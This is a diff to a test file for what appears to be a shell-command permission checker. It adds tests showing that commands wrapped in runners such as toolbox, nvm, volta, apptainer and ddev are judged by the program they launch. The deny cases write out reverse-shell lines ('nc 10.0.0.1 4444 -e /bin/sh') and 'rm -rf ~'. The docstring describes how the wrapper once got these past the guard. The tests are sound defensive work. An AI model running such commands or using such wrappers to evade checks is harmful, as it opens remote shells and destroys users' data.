@@ -306,6 +306,47 @@ class TestDeviceNamedAsWhereToWrite:
         _allowed(command)
 
 
+class TestRunnerVerbThenCommand:
+    """Class: an unmodelled runner whose `run`/`exec` verb, after at most one operand (a version, an image, a
+    container), runs a program with its arguments -- Fedora's toolbox, Volta, nvm, Apptainer/Singularity (the home
+    folder and the network are the host's), DDEV. The exec-wrapper convention (a word naming a program, then its
+    arguments, is judged as typed) stopped at `run` and `exec`, which it took for the tool's own subcommand, so `toolbox
+    run nc HOST PORT -e /bin/sh` was allowed where `setarch x86_64 nc …` is refused. Fixed: unwrap._after_running_verb
+    reads the command after the verb and one operand; the tool's own words after it (test, build, install) and a
+    program's ordinary work stay as they were."""
+
+    CASES: ClassVar[list[str]] = [
+        "apptainer exec img.sif nc 10.0.0.1 4444 -e /bin/sh",
+        "singularity exec docker://alpine nc 10.0.0.1 4444 -e /bin/sh",
+        "toolbox run nc 10.0.0.1 4444 -e /bin/sh",
+        "nvm exec 20 nc 10.0.0.1 4444 -e /bin/sh",
+        "volta run nc 10.0.0.1 4444 -e /bin/sh",
+        "ddev exec nc 10.0.0.1 4444 -e /bin/sh",
+        "toolbox run rm -rf ~",
+        "ddev exec rm -rf ~",
+    ]
+
+    ORDINARY: ClassVar[list[str]] = [
+        "volta run node server.js",
+        "nvm exec 20 node app.js",
+        "toolbox run make",
+        "apptainer exec img.sif python train.py",
+        "just run test",
+        "task run build",
+        "mytool run lint",
+        "mytool exec migrate",
+        "mytool run cat README.md",
+    ]
+
+    @pytest.mark.parametrize("command", CASES)
+    def test_denied(self, command: str) -> None:
+        assert _verdict(command) == "deny", command
+
+    @pytest.mark.parametrize("command", ORDINARY)
+    def test_ordinary(self, command: str) -> None:
+        _allowed(command)
+
+
 class TestGitDestroysThroughAnotherDoor:
     """Class: git's destroying operations reached through a door the git rules did not read -- the ref deletes
     `update-ref -d` is refused for, fed to `update-ref --stdin` (a literal `delete REF` line, or for-each-ref's
